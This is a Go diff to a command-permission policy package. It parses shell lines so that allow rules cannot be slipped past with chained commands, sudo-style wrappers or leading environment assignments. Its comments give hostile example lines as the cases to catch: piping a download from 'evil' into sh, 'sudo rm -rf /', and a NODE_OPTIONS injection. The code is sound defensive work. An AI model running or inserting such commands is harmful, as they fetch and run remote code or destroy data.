@@ -1,6 +1,9 @@
 package policy
 
-import "strings"
+import (
+	"regexp"
+	"strings"
+)
 
 // A Bash rule read as a plain glob over the whole command line would let
 // Bash(npm test:*) allow "npm test && curl evil | sh", and let
@@ -12,9 +15,15 @@ import "strings"
 // (command substitution, subshells, control flow, an open quote), it says
 // so, and allow rules then do not match at all.
 
-// shellWords that start a simple command but are not the command: what
-// follows them is what runs.
-var shellPrefixWords = []string{"{", "}", "!", "if", "then", "else", "elif", "do", "while", "until", "time"}
+// shellPrefixWords start a simple command but are not the command: what
+// follows them is what runs. Wrappers such as sudo are here too, so that
+// "sudo rm -rf /" meets a rule about rm; their options are not parsed.
+var shellPrefixWords = []string{"{", "}", "!", "if", "then", "else", "elif", "do", "while", "until", "time",
+	"sudo", "env", "nohup", "exec", "command", "builtin"}
+
+// envAssignment is a leading NAME=value, which changes what the command
+// does (PATH=., NODE_OPTIONS=--require x) but not which command it is.
+var envAssignment = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*=[^\s'"]*$`)
 
 // shellBlockWords start or end control flow a screen cannot follow.
 var shellBlockWords = []string{"for", "case", "select", "function", "fi", "done", "esac", "in"}
@@ -31,7 +40,7 @@ func commandParts(line string) (parts []string, opaque bool) {
 		for {
 			w, rest, _ := strings.Cut(s, " ")
 			switch {
-			case containsWord(shellPrefixWords, w):
+			case containsWord(shellPrefixWords, w), envAssignment.MatchString(w):
 				opaque = true
 				s = strings.TrimSpace(rest)
 				continue
